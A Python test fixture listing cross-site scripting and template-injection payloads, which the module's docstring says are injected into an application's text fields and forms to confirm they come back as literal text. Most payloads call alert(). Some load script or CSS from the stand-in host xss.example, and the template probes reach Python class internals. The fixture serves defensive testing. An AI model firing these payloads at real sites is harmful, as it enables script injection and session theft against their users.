"""A corpus of cross-site scripting payloads (SECURITY V2), put into every text field by tests/test_xss.py and
typed into the main forms by tests/browser/test_xss_browser.py. Each one must come back as the literal text.

Template payloads multiply 1337 by 1337: the product, TEMPLATE_PRODUCT, is a number that no page shows, so
finding it anywhere means a template engine evaluated stored text."""

TEMPLATE_PRODUCT = "1787569"
BOLD_CANARY = "<b>BOLDCANARY</b>"

SCRIPT_TAGS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script >alert(String.fromCharCode(88,83,83))</script >",
    "<scr<script>ipt>alert('xss-4')</scr</script>ipt>",
    "</textarea><script>alert('xss-5')</script>",
    "</title><script>alert('xss-6')</script>",
    "<script type=module>import('//xss.example/m.js')</script>",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert('xss-8')>",
    "<IMG SRC=x OnError=alert(9)>",
    "<body onload=alert('xss-10')>",
    "<input autofocus onfocus=alert('xss-11')>",
    "<details open ontoggle=alert('xss-12')>",
    "<video><source onerror=alert('xss-13')></video>",
    "<marquee onstart=alert('xss-14')>m</marquee>",
    "<div onmouseover=\"alert('xss-15')\">hover</div>",
    "<iframe srcdoc=\"<script>alert('xss-16')</script>\"></iframe>",
]
URLS = [
    "<a href=\"javascript:alert('xss-17')\">click</a>",
    "<a href=\" javascript:alert('xss-18')\">lead space</a>",
    "<a href=\"jav&#x09;ascript:alert('xss-19')\">tab entity</a>",
    "<a href=\"JaVaScRiPt:alert('xss-20')\">mixed case</a>",
    "javascript:alert('xss-21')",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "<iframe src=\"javascript:alert('xss-23')\"></iframe>",
    "<form action=\"javascript:alert('xss-24')\"><button>go</button></form>",
    "<object data=\"javascript:alert('xss-25')\"></object>",
    "<embed src=\"javascript:alert('xss-26')\">",
    "<base href=\"javascript:alert('xss-27')//\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-28\')">',
]
SVG = [
    "<svg onload=alert('xss-29')>",
    "<svg><script>alert('xss-30')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'xss-31\')"><text x="0" y="9">svg link</text></a></svg>',
    "<svg><animate onbegin=alert('xss-32') attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert('xss-33')></mtext></math>",
]
ATTRIBUTE_BREAKOUTS = [
    "\"><script>alert('xss-34')</script>",
    "'><img src=x onerror=alert('xss-35')>",
    "\" onmouseover=\"alert('xss-36')",
    "' onfocus='alert(37)' autofocus='",
    "\" autofocus onfocus=alert('xss-38') x=\"",
    "--><script>alert('xss-39')</script><!--",
]
TEMPLATE_INJECTION = [
    "{{1337*1337}}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{{ lipsum.__globals__ }}{% raw %}",  # no "fi": the PDF font's ligature extracts as another glyph
    "{{''.__class__.__mro__[1].__subclasses__()}}",
]
CSS = [
    "<div style=\"width: expression(alert('xss-46'))\">css</div>",
    "<style>body{background:url(\"javascript:alert('xss-47')\")}</style>",
    "<p style=\"background-image:url(javascript:alert('xss-48'))\">bg</p>",
    '<link rel=stylesheet href="//xss.example/x.css">',
]
ENCODED = [
    "&lt;script&gt;alert('xss-50')&lt;/script&gt;",
    "%3Cscript%3Ealert('xss-51')%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert('xss-52')\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert('xss-53')\uff1c/script\uff1e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;54&#41;>",
    "\u202e<script>alert('xss-55')</script>",
    BOLD_CANARY,
    "<i>ITALICCANARY</i> & <u>U</u>",
]

PAYLOADS = [*SCRIPT_TAGS, *EVENT_HANDLERS, *URLS, *SVG, *ATTRIBUTE_BREAKOUTS, *TEMPLATE_INJECTION, *CSS, *ENCODED]
